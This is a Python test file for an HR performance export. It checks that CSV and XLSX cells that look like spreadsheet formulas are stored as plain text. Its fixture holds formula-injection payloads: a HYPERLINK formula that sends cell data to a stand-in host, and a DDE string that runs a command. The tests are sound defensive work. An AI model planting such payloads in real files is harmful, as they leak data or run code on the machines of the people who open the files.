"""Exports HR opens in a spreadsheet: ids and notes from users' files never run as formulas."""

from __future__ import annotations

import csv
import io
import zipfile

from openpyxl import load_workbook

from qa_service.period import parse_period
from qa_service.performance.export import to_csv, to_xlsx

HOSTILE = {"agent_id": "=HYPERLINK(\"http://x.example/?\"&A1,\"点我\")", "team": "@SUM(A1)",
           "notes": ["-2+3", "+cmd|' /C calc'!A0"]}


def _row(**fields) -> dict:
    row = {"rank": 1, "agent_id": "a1", "team": "t1", "scheme": None, "total": 88.5, "grade": "B",
           "quantitative": -3.0, "qualitative": None, "items": [], "qa_score_mean": 80.0, "qa_score_adjusted": 79.0,
           "qa_n": 12, "qa_ci95": None, "team_size": 3, "metrics": {}, "notes": [], "period": "2026-10"}
    return {**row, **fields}


def test_csv_cells_that_look_like_formulas_open_as_text():
    text = to_csv([_row(**HOSTILE), _row(agent_id="a2")])
    rows = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))
    assert rows[0]["agent_id"] == "'" + HOSTILE["agent_id"] and rows[0]["team"] == "'@SUM(A1)"
    assert rows[0]["notes"] == "'-2+3; +cmd|' /C calc'!A0"
    assert rows[0]["quantitative"] == "-3.0"  # a number stays a number
    assert rows[1]["agent_id"] == "a2"


def test_xlsx_cells_that_look_like_formulas_are_strings():
    data = to_xlsx([_row(**HOSTILE)], parse_period("2026-10"), {})
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not any("<f>" in z.read(n).decode() for n in sheets)  # no formula anywhere
    book = load_workbook(io.BytesIO(data))
    summary = book["汇总"]
    cells = {c.value: c.data_type for c in summary[2]}
    assert cells[HOSTILE["agent_id"]] == "s" and cells["@SUM(A1)"] == "s" and cells[-3.0] == "n"
